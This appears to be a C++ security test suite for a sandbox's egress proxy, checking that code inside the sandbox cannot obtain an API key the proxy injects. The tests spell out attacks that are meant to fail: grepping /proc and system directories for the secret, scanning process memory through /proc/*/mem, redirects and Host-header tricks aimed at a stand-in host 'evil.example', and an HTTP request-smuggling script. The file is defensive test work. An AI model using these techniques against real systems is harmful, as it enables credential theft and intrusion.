// Attempts to get hold of the credential of a service, which is added outside
// of the sandbox.

#include <stdlib.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "absl/base/thread_annotations.h"
#include "absl/strings/match.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "sandbox/base/mutex.h"
#include "tests/attack/attack_test.h"
#include "tests/network/name_server.h"
#include "tests/network/tls_server.h"
#include "tests/network/upstream_server.h"
#include "tests/text_file.h"

namespace tests {
namespace {

using ::testing::AllOf;
using ::testing::Each;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr char kSecret[] = "sk-do-not-find-me-4711";
constexpr char kUrl[] = "http://model.corral.internal/v1";

class ServiceAttackTest : public AttackTest {
 protected:
  ServiceAttackTest() {
    char name[] = "/tmp/service_attack_test.XXXXXX";
    keys_ = ::mkdtemp(name);
    std::ofstream(keys_ + "/key") << kSecret << "\n";
    std::ofstream(keys_ + "/ca.pem") << upstream_.authority();
    names_.Set("api.example", {"127.0.0.1"});
    names_.Set("evil.example", {"127.0.0.1"});
    auto* const egress = spec().mutable_egress();
    egress->add_name_servers(names_.address());
    egress->mutable_policy()->add_private_networks("127.0.0.1");
    auto* const service = egress->mutable_policy()->add_services();
    service->set_name("model");
    service->set_host("api.example");
    service->set_port(upstream_.port());
    service->set_header("x-api-key");
    service->set_own_authorities(true);
    auto* const source = egress->add_credentials();
    source->set_service("model");
    source->set_file(keys_ + "/key");
    source->set_ca_file(keys_ + "/ca.pem");
    auto* const rule = egress->mutable_policy()->add_rules();
    rule->set_host("evil.example");
    rule->add_ports(evil_.port());
  }
  ~ServiceAttackTest() override { std::filesystem::remove_all(keys_); }

  // A redirect to the attacker's host for /redirect; otherwise a greeting.
  void Answer(TlsConnection& connection) {
    const std::string head = connection.ReadUntil("\r\n\r\n");
    {
      const sandbox::MutexLock lock(&mutex_);
      heads_.push_back(head);
    }
    if (absl::StrContains(head, " /redirect ")) {
      connection.Send(absl::StrCat(
          "HTTP/1.1 307 Temporary Redirect\r\nContent-Length: 0\r\n"
          "Location: http://evil.example:",
          evil_.port(), "/\r\n\r\n"));
    } else {
      connection.Send("HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n");
    }
  }
  std::vector<std::string> Heads() {
    const sandbox::MutexLock lock(&mutex_);
    return heads_;
  }
  std::vector<std::string> Stolen() {
    const sandbox::MutexLock lock(&mutex_);
    return stolen_;
  }

  std::string keys_;
  sandbox::Mutex mutex_;
  std::vector<std::string> heads_ ABSL_GUARDED_BY(mutex_);
  std::vector<std::string> stolen_ ABSL_GUARDED_BY(mutex_);
  NameServer names_;
  UpstreamServer evil_{[this](int socket) {
    const std::string head = ReadUntil(socket, "\r\n\r\n");
    const sandbox::MutexLock lock(&mutex_);
    stolen_.push_back(head);
    SendAll(socket, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nevil\n");
  }};
  TlsServer upstream_{[this](TlsConnection& each) { Answer(each); }};
};

TEST_F(ServiceAttackTest, IsUsedButNeverSeenInside) {
  Create();
  EXPECT_EQ(Shell(absl::StrCat("curl -sSfN ", kUrl, " 2>&1")), "hello\n");
  EXPECT_THAT(Heads(), Each(HasSubstr(absl::StrCat("x-api-key: ", kSecret))));
  // The pattern is split, so that the search does not find itself.
  const std::string search =
      "p=sk-do-not-find; p=$p-me; "
      "grep -raslF -e \"$p\" /proc/[0-9]*/environ /proc/[0-9]*/cmdline "
      "/proc/[0-9]*/maps /etc /tmp /run /home /var /dev/shm . 2>/dev/null; "
      "env | grep -F \"$p\"; echo searched";
  EXPECT_EQ(Shell(search), "searched\n");
  // The answer, with all of its head.
  EXPECT_THAT(Shell(absl::StrCat("curl -siv ", kUrl, " 2>&1")),
              AllOf(HasSubstr("200 OK"), Not(HasSubstr(kSecret))));
}

TEST_F(ServiceAttackTest, ReadsNoMemoryOfTheProcessesThatHaveIt) {
  Create();
  EXPECT_EQ(Shell(absl::StrCat("curl -sSf ", kUrl, " 2>&1")), "hello\n");
  std::ofstream(sandbox_.workspace() + "/memory.py")
      << "import glob\n"
         "needle = b'sk-do-not-find' + b'-me'\n"
         "found = []\n"
         "for maps in glob.glob('/proc/[0-9]*/maps'):\n"
         "    try:\n"
         "        memory = open(maps[:-4] + 'mem', 'rb', 0)\n"
         "        for line in open(maps):\n"
         "            begin, end = line.split()[0].split('-')\n"
         "            try:\n"
         "                memory.seek(int(begin, 16))\n"
         "                part = memory.read(int(end, 16) - int(begin, 16))\n"
         "            except (OSError, ValueError, OverflowError):\n"
         "                continue\n"
         "            if needle + b'-4711' in part:\n"
         "                found.append(maps)\n"
         "    except OSError:\n"
         "        pass\n"
         "print(found)\n";
  EXPECT_EQ(Shell("/usr/bin/python3 memory.py"), "[]\n");
}

TEST_F(ServiceAttackTest, IsOnNoDiskAndInNoCommandLineOutside) {
  Create();
  EXPECT_EQ(Shell(absl::StrCat("curl -sSf ", kUrl, " 2>&1")), "hello\n");
  for (const auto& entry :
       std::filesystem::recursive_directory_iterator(sandbox_.directory())) {
    if (entry.is_regular_file()) {
      EXPECT_THAT(ReadFile(entry.path()), Not(HasSubstr(kSecret)))
          << entry.path();
    }
  }
  for (const auto& entry : std::filesystem::directory_iterator("/proc")) {
    pid_t pid;
    if (!absl::SimpleAtoi(entry.path().filename().string(), &pid) ||
        pid == ::getpid()) {
      continue;
    }
    for (const char* name : {"cmdline", "environ"}) {
      EXPECT_THAT(ReadFile(entry.path() / name), Not(HasSubstr(kSecret)))
          << entry.path();
    }
  }
}

TEST_F(ServiceAttackTest, DoesNotFollowARedirectToAnotherHost) {
  Create();
  EXPECT_EQ(Shell("curl -sL http://model.corral.internal/redirect"), "evil\n");
  ASSERT_EQ(Stolen().size(), 1U);
  EXPECT_THAT(Stolen()[0],
              AllOf(HasSubstr("Host: evil.example"), Not(HasSubstr(kSecret)),
                    Not(HasSubstr("api-key"))));
}

TEST_F(ServiceAttackTest, CannotBeLuredToAnotherHost) {
  Create();
  const std::string evil = absl::StrCat("evil.example:", evil_.port());
  EXPECT_THAT(Shell(absl::StrCat("curl -s -H 'Host: ", evil, "' ", kUrl)),
              HasSubstr("must name the host"));
  EXPECT_THAT(Shell(absl::StrCat("curl -s --request-target 'http://", evil,
                                 "/' ", kUrl)),
              HasSubstr("must name the host"));
  EXPECT_EQ(
      Shell(absl::StrCat("curl -s --connect-to evil.example:", evil_.port(),
                         ":model.corral.internal:80 "
                         "http://",
                         evil, "/ | head -c 7")),
      "Corral:");
  EXPECT_EQ(
      Shell(absl::StrCat("curl -s -H 'X-Forwarded-Host: evil.example' ", kUrl)),
      "hello\n");
  EXPECT_EQ(Stolen().size(), 0U);
}

TEST_F(ServiceAttackTest, SendsOneHeaderWhateverTheProgramSends) {
  Create();
  EXPECT_EQ(Shell(absl::StrCat(
                "curl -s -H 'X-API-Key: own' -H 'x_api_key: own' -H "
                "'Authorization: Bearer own' -H 'Connection: x-api-key' ",
                kUrl)),
            "hello\n");
  ASSERT_EQ(Heads().size(), 1U);
  EXPECT_THAT(Heads()[0],
              AllOf(HasSubstr(absl::StrCat("\r\nx-api-key: ", kSecret, "\r\n")),
                    Not(HasSubstr("own"))));
}

TEST_F(ServiceAttackTest, PassesNoSecondRequestAndNoAmbiguousOne) {
  Create();
  std::ofstream(sandbox_.workspace() + "/smuggle.py")
      << "import socket\n"
         "host = b'Host: model.corral.internal\\r\\n'\n"
         "second = b'GET /second HTTP/1.1\\r\\n' + host + b'\\r\\n'\n"
         "chunked = b'Transfer-Encoding: chunked\\r\\n'\n"
         "def send(fields, body=b'', line=b'POST / HTTP/1.1\\r\\n'):\n"
         "    s = socket.create_connection(('model.corral.internal', 80), 20)\n"
         "    s.sendall(line + host + fields + b'\\r\\n' + body + second)\n"
         "    answer = b''\n"
         "    try:\n"
         "        while True:\n"
         "            part = s.recv(4096)\n"
         "            if not part: break\n"
         "            answer += part\n"
         "    except ConnectionResetError: pass\n"
         "    print(answer[9:12].decode() or 'RST')\n"
         "send(b'')\n"
         "send(b'Content-Length: 2\\r\\n', b'ab')\n"
         "send(chunked, b'0\\r\\n\\r\\n')\n"
         "send(b'Content-Length: 2\\r\\n' + chunked, b'0\\r\\n\\r\\n')\n"
         "send(b'Content-Length: 2\\r\\nContent-Length: 3\\r\\n', b'ab')\n"
         "send(b'A: b\\r\\n x-api-key: c\\r\\n')\n"
         "send(b'A: b\\nx-api-key: c\\r\\n')\n"
         "send(b'A: b\\0c\\r\\n')\n"
         "send(b'', line=b'GET /\\rx HTTP/1.1\\r\\n')\n"
         "send(b'', line=b'GET / HTTP/1.1\\r\\nA b: c\\r\\n')\n";
  EXPECT_EQ(Shell("/usr/bin/python3 smuggle.py"),
            "200\n200\n200\n400\n400\n400\n400\n400\n400\n400\n");
  EXPECT_EQ(Heads().size(), 3U);
  EXPECT_THAT(Heads(), Each(Not(HasSubstr("/second"))));
}

TEST_F(ServiceAttackTest, IsNotReadFromAFileThatTheSandboxSees) {
  // The link was put there after the operator's check.
  std::filesystem::remove(keys_ + "/key");
  std::ofstream(sandbox_.workspace() + "/key") << kSecret;
  std::filesystem::create_symlink(sandbox_.workspace() + "/key",
                                  keys_ + "/key");
  Create();
  EXPECT_THAT(
      Shell(absl::StrCat("curl -s ", kUrl)),
      AllOf(HasSubstr("cannot read its credential"), Not(HasSubstr("/key"))));
  EXPECT_EQ(Heads().size(), 0U);
}

}  // namespace
}  // namespace tests
